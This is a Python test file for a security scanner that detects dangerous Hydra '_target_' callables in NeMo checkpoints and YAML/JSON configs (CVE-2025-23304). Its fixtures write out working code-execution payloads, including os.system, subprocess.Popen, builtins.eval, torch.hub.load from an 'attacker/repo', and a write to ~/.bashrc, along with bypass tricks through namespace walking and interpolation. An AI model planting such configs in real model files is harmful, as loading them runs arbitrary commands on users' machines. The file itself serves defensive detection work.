"""Hydra ``_target_`` callables in NeMo checkpoints and YAML/JSON configs (CVE-2025-23304).

One named test per technique: each builds the config (in a ``.nemo`` tar where NeMo would
load it) and asserts the exact rule and verdict; the benign configs follow real NeMo,
Megatron and Hugging Face configs and must stay clean.
"""

from __future__ import annotations

import io
import json
import tarfile

from aisec.artifacts import scan_bytes

_NEMO_CONFIG = """\
name: FastConformer-CTC-BPE
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
nemo_version: 1.23.0
sample_rate: 16000
train_ds:
  manifest_filepath: null
  sample_rate: ${sample_rate}
tokenizer:
  dir: /tokenizers/spe_unigram_v128
  type: bpe
  model_path: nemo:d1a2b3_tokenizer.model
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: ${sample_rate}
  normalize: per_feature
  window: hann
  features: 80
spec_augment:
  _target_: nemo.collections.asr.modules.SpectrogramAugmentation
  freq_masks: 2
  time_masks: 10
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: ${preprocessor.features}
  n_layers: 18
  d_model: 512
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  feat_in: null
  num_classes: 128
  vocabulary: []
optim:
  name: adamw
  lr: 0.001
  sched:
    name: CosineAnnealing
    warmup_steps: 15000
trainer:
  strategy:
    _target_: pytorch_lightning.strategies.DDPStrategy
    gradient_as_bucket_view: true
"""


def _nemo(config: str) -> bytes:
    """A ``.nemo`` checkpoint: a tar holding ``model_config.yaml`` and the weights."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for name, data in (
            ("model_config.yaml", config.encode()),
            ("model_weights.ckpt", b"\x00" * 64),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _judge(data: bytes, name: str) -> tuple[str, set[str]]:
    report = scan_bytes(data, name)
    worst = max(r.verdict for r in report.files)
    return worst, {f.rule_id for f in report.findings}


def test_cve_2025_23304_nemo_target_os_system() -> None:
    data = _nemo("model:\n  _target_: os.system\n  command: touch /tmp/pwned\n")
    assert _judge(data, "model.nemo") == ("malicious", {"config-hydra-target-dangerous"})


def test_hydra_target_popen_in_callback_list() -> None:
    config = "trainer:\n  callbacks:\n  - _target_: subprocess.Popen\n    args: [whoami]\n"
    assert _judge(_nemo(config), "model.nemo") == ("malicious", {"config-hydra-target-dangerous"})


def test_hydra_target_builtins_eval_at_root() -> None:
    config = "_target_: builtins.eval\nexpression: __import__('os').system('id')\n"
    assert _judge(_nemo(config), "model.nemo") == ("malicious", {"config-hydra-target-dangerous"})


def test_hydra_target_walks_into_os_through_nemo_namespace() -> None:
    # Hydra walks attributes after the longest importable module: nemo.utils.os is os
    config = "model:\n  _target_: nemo.utils.os.system\n  command: id\n"
    assert _judge(_nemo(config), "model.nemo") == ("malicious", {"config-hydra-target-dangerous"})


def test_hydra_target_torch_hub_load_inside_allowed_namespace() -> None:
    config = "model:\n  _target_: torch.hub.load\n  repo_or_dir: attacker/repo\n  model: m\n"
    assert _judge(_nemo(config), "model.nemo") == ("malicious", {"config-hydra-target-dangerous"})


def test_nemo_legacy_target_key_imports_os_system() -> None:
    # NeMo's from_config_dict imports a top-level ``target`` without Hydra
    config = _NEMO_CONFIG.replace(
        "target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE", "target: os.system"
    )
    assert _judge(_nemo(config), "model.nemo") == ("malicious", {"config-hydra-target-dangerous"})


def test_nemo_legacy_cls_params_key_runs_subprocess() -> None:
    config = "encoder:\n  cls: subprocess.check_output\n  params:\n    args: [id]\n"
    assert _judge(_nemo(config), "model.nemo") == ("malicious", {"config-hydra-target-dangerous"})


def test_hydra_target_in_json_config() -> None:
    data = json.dumps({"model": {"_target_": "os.popen", "cmd": "id"}}).encode()
    assert _judge(data, "config.json") == ("malicious", {"config-hydra-target-dangerous"})


def test_hydra_target_in_standalone_yaml_config() -> None:
    data = b"optimizer:\n  _target_: runpy.run_path\n  path_name: /tmp/x.py\n"
    assert _judge(data, "train.yaml") == ("malicious", {"config-hydra-target-dangerous"})


def test_hydra_target_built_by_interpolation() -> None:
    config = "parts:\n  mod: os\nmodel:\n  _target_: ${parts.mod}.system\n  command: id\n"
    assert _judge(_nemo(config), "model.nemo") == ("suspicious", {"config-hydra-target-dynamic"})


def test_hydra_target_outside_ml_namespaces() -> None:
    # pathlib is not on the deny list, but writing files is no model's business
    config = "model:\n  _target_: pathlib.Path.write_text\n  _args_: [/home/u/.bashrc, x]\n"
    assert _judge(_nemo(config), "model.nemo") == ("suspicious", {"config-hydra-target-unknown"})


def test_real_nemo_model_config_is_clean() -> None:
    assert _judge(_nemo(_NEMO_CONFIG), "model.nemo") == ("clean", set())


def test_megatron_and_transformers_targets_are_clean() -> None:
    config = (
        "model:\n  _target_: megatron.bridge.models.gpt_provider.GPTModelProvider\n"
        "tokenizer:\n  _target_: transformers.AutoTokenizer.from_pretrained\n"
        "  pretrained_model_name_or_path: gpt2\n"
        "optim:\n  _target_: torch.optim.AdamW\n  lr: 0.0001\n"
        "sched:\n  _target_: nemo.core.optim.lr_scheduler.CosineAnnealing\n"
        "callbacks:\n- _target_: lightning.pytorch.callbacks.ModelCheckpoint\n"
        "collate:\n  _target_: collections.OrderedDict\n"
    )
    assert _judge(_nemo(config), "model.nemo") == ("clean", set())


def test_target_and_cls_keys_with_other_meanings_are_clean() -> None:
    # ``target``/``cls`` are ordinary key names (labels, tokens, columns): only a dangerous
    # callable is reported under them
    config = (
        "dataset:\n  target: label\n  text_field: sentence\n"
        "tokenizer:\n  cls: '[CLS]'\n  sep: '[SEP]'\n"
        "metrics:\n  target: val.accuracy\n"
        "loss:\n  target: mypackage.losses.Focal\n"
    )
    assert _judge(config.encode(), "config.yaml") == ("clean", set())
